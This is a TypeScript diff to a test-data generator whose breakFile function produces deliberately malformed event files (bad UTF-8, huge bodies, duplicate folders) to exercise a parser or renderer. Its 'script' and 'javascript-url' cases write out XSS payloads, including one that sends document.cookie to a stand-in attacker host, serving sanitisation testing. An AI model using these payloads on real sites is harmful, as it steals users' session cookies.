@@ -54,7 +54,12 @@ export function planMalformed(days: readonly DayNumber[], percent: number, rando
 }
 
 /** The file(s) that replace a well-formed event file. */
-export function breakFile(kind: MalformedCase, file: GeneratedFile & { content: string }, day: DayNumber, random: Random): GeneratedFile[] {
+export function breakFile(
+  kind: MalformedCase,
+  file: GeneratedFile & { content: string },
+  day: DayNumber,
+  random: Random,
+): GeneratedFile[] {
   const text = file.content;
   const name = file.path.slice(file.path.lastIndexOf('/') + 1);
   switch (kind) {
@@ -78,20 +83,36 @@ export function breakFile(kind: MalformedCase, file: GeneratedFile & { content: 
     case 'invalid-utf8': {
       const cut = afterTitle(text);
       const bad = Uint8Array.from([0x42, 0x61, 0x64, 0x20, 0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x0a]);
-      return [{ path: file.path, content: Buffer.concat([Buffer.from(text.slice(0, cut)), bad, Buffer.from(text.slice(cut))]) }];
+      return [
+        {
+          path: file.path,
+          content: Buffer.concat([Buffer.from(text.slice(0, cut)), bad, Buffer.from(text.slice(cut))]),
+        },
+      ];
     }
     case 'script': {
       const withTitle = text.replace(/\n# (.*) \n/, '\n# $1 <script>alert("title")</script> \n');
-      const payload = '<script>fetch("https://evil.example.com/?c=" + document.cookie)</script> <img src=x onerror="alert(1)">';
+      const payload =
+        '<script>fetch("https://evil.example.com/?c=" + document.cookie)</script> <img src=x onerror="alert(1)">';
       return [{ path: file.path, content: insertAfterTitle(withTitle, payload) }];
     }
     case 'javascript-url': {
-      const withSource = text.replace(/(### Sources?:\n\n1\. \[[^\]]*\])\([^\n]*\)/, '$1(javascript:alert(document.cookie))');
-      return [{ path: file.path, content: insertAfterTitle(withSource, 'Read [the full story](javascript:alert(1)) here.') }];
+      const withSource = text.replace(
+        /(### Sources?:\n\n1\. \[[^\]]*\])\([^\n]*\)/,
+        '$1(javascript:alert(document.cookie))',
+      );
+      return [
+        { path: file.path, content: insertAfterTitle(withSource, 'Read [the full story](javascript:alert(1)) here.') },
+      ];
     }
     case 'huge-body': {
       const sentence = 'This paragraph repeats to make the body very large \u2014 far beyond any real summary. ';
-      return [{ path: file.path, content: insertAfterTitle(text, sentence.repeat(Math.ceil(HUGE_BODY_BYTES / sentence.length))) }];
+      return [
+        {
+          path: file.path,
+          content: insertAfterTitle(text, sentence.repeat(Math.ceil(HUGE_BODY_BYTES / sentence.length))),
+        },
+      ];
     }
     case 'duplicate-folder': {
       const unpadded = file.path.split('/')[3].length === 1;
